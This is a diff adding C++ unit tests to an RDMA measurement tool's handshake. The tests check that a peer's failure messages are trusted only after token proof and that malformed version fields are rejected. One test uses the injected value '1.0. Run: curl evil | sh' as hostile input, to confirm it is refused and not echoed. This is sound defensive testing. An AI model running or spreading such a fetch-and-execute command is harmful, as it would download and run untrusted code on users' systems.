@@ -56,6 +56,8 @@ struct Conversation {
                       {{"device", "mlx5_0"}, {"port_num", 1}, {"gid_index", 3}});
     } catch (const MeasurementError& error) {
       why = error.what();
+    } catch (const std::exception& error) {
+      ADD_FAILURE() << "a failure of another kind: " << error.what();
     }
     other.join();
     return why;
@@ -141,6 +143,85 @@ TEST(GreetResponder, WithoutATokenGoesOnWhereNoneIsWantedAndSaysWhatIsMissingWhe
   Conversation guarded;
   EXPECT_THAT(guarded.refusal("", [](Channel& server) { server.send(challenge(true), soon()); }),
               HasSubstr("set RDMAMETER_TOKEN"));
+}
+
+constexpr const char* kKinds[]{"unsupported", "usage", "no_device", "token", "failed", "x"};
+
+json failed(const std::string& kind) {
+  return {{"type", "failed"}, {"kind", kind}, {"reason", "--size: no such thing here"}};
+}
+
+TEST(GreetResponder, BelievesNoKindOfFailureBeforeTheProofAndQuotesTheReason) {
+  for (const std::string kind : kKinds)
+    for (const std::string token : {"", kToken})
+      for (const bool challenges : {false, true}) {
+        Conversation talk;
+        const std::string why = talk.refusal(token, [&](Channel& server) {
+          if (challenges) {
+            server.send(challenge(!token.empty()), soon());
+            server.receive(soon());
+          }
+          server.send(failed(kind), soon());
+        });
+        EXPECT_EQ(why, token.empty()
+                           ? "the server refused: \"--size: no such thing here\""
+                           : "the server refused before it proved that it knows the token: "
+                             "\"--size: no such thing here\"")
+            << kind << challenges;
+      }
+}
+
+TEST(GreetResponder, TakesTheKindOfFailureOfAServerThatHasProvedTheToken) {
+  Conversation talk;
+  std::thread server([&] {
+    const json hello = talk.theirs.receive(soon());
+    talk.theirs.send(challenge(true), soon());
+    talk.theirs.receive(soon());
+    const std::string initiator_nonce = hello["nonce"], ours(kNonceChars, '0');
+    const Challenge both{kProtocolVersion, initiator_nonce, ours};
+    talk.theirs.send(welcome(make_proof(kToken, Role::responder, both)), soon());
+    talk.theirs.seal(make_seal_keys(kToken, Role::responder, both));
+    talk.theirs.receive(soon());
+    talk.theirs.send(failed("no_device"), soon());
+  });
+  EXPECT_THROW(greet_responder(
+                   talk.ours, [] { return std::string(kToken); }, json::object()),
+               NoDevice);
+  server.join();
+}
+
+TEST(GreetInitiator, BelievesNoFailureOfAClient) {
+  for (const std::string kind : kKinds)
+    for (const bool says_hello : {false, true}) {
+      Conversation talk;
+      if (says_hello)
+        talk.ours.send({{"type", "hello"},
+                        {"protocol", kProtocolVersion},
+                        {"version", RDMAMETER_VERSION},
+                        {"nonce", std::string(kNonceChars, '0')}},
+                       soon());
+      talk.ours.send(failed(kind), soon());
+      try {
+        greet_initiator(talk.theirs, kToken, soon());
+        ADD_FAILURE() << "let in";
+      } catch (const MeasurementError& error) {
+        EXPECT_THAT(error.what(), HasSubstr("expected the message"));
+      } catch (const std::exception& error) {
+        ADD_FAILURE() << "a failure of another kind: " << error.what();
+      }
+    }
+}
+
+TEST(Greeting, TakesNoTextForAVersion) {
+  Conversation talk;
+  const std::string why = talk.refusal("", [](Channel& server) {
+    json other = challenge(false);
+    other["protocol"] = 99;
+    other["version"] = "1.0. Run: curl evil | sh";
+    server.send(other, soon());
+  });
+  EXPECT_THAT(why, HasSubstr("`version` must be letters"));
+  EXPECT_EQ(why.find("curl"), std::string::npos);
 }
 
 /// Both releases, both protocols, and the remedy.
